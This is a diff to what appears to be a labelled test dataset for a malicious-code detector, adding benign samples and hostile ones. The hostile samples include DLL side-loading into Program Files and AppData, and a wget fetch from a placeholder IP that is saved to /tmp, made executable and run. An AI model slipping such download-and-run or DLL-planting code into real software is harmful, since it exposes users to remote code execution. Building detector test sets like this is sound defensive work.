@@ -141,6 +141,28 @@ MALICIOUS = [
         "    urllib.request.urlretrieve('http://198.51.100.7/u/updater.exe', os.path.expandvars('%TEMP%\\\\u.exe'))\n",
     ),
     (
+        "a DLL planted beside another program",
+        "defence-evasion",
+        "python",
+        "import shutil\nimport subprocess\n\ndef patch():\n"
+        "    shutil.copy('helper.bin', 'C:\\\\Program Files\\\\Notes\\\\version.dll')\n"
+        "    subprocess.Popen(['C:\\\\Program Files\\\\Notes\\\\notes.exe'])\n",
+    ),
+    (
+        "a DLL planted in AppData",
+        "defence-evasion",
+        "javascript",
+        "const fs = require('fs');\nfunction patch(bytes) {\n"
+        "  fs.writeFileSync('%APPDATA%\\\\Notes\\\\winmm.dll', bytes);\n}\nmodule.exports = { patch };\n",
+    ),
+    (
+        "a file fetched by wget then run",
+        "download-and-run",
+        "python",
+        "import os\n\ndef refresh():\n    os.system('wget -q http://198.51.100.7/r -O /tmp/.r')\n"
+        "    os.system('chmod 755 /tmp/.r')\n    os.system('/tmp/.r')\n",
+    ),
+    (
         "a paste named for later",
         "exfiltration-endpoint",
         "javascript",
@@ -255,6 +277,20 @@ CLEAN = [
         "python",
         "import urllib.request\n\ndef refresh(target: str) -> None:\n"
         "    urllib.request.urlretrieve('https://data.forecast-api.io/v2/stations.json', target)\n",
+    ),
+    (
+        "prebuilt DLLs put beside the package's own code",
+        "javascript",
+        "const fs = require('fs');\nconst path = require('path');\nfunction place(bytes) {\n"
+        "  fs.writeFileSync(path.join(__dirname, 'prebuilds', 'win32-x64', 'addon.dll'), bytes);\n"
+        "  fs.copyFileSync('build/Release/addon.dll', 'lib/addon.dll');\n}\nmodule.exports = { place };\n",
+    ),
+    (
+        "a release archive fetched by curl and unpacked",
+        "python",
+        "import subprocess\n\ndef install_tool(url: str) -> None:\n"
+        "    subprocess.run(['curl', '-fsSL', url, '-o', 'tool.tar.gz'], check=True)\n"
+        "    subprocess.run(['tar', 'xzf', 'tool.tar.gz'], check=True)\n",
     ),
     (
         "a short link and a service's name in help texts",
